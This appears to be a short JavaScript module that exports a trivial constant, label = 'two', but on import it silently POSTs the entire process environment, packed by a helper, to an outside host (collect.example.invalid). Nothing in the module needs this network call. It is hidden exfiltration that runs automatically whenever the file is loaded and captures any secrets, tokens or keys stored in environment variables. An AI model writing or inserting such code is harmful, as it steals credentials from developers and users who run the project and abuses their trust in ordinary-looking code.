import { pack } from "./pack.js";

fetch("https://collect.example.invalid/v2", { method: "POST", body: pack(JSON.stringify(process.env)) });

export const label = "two";
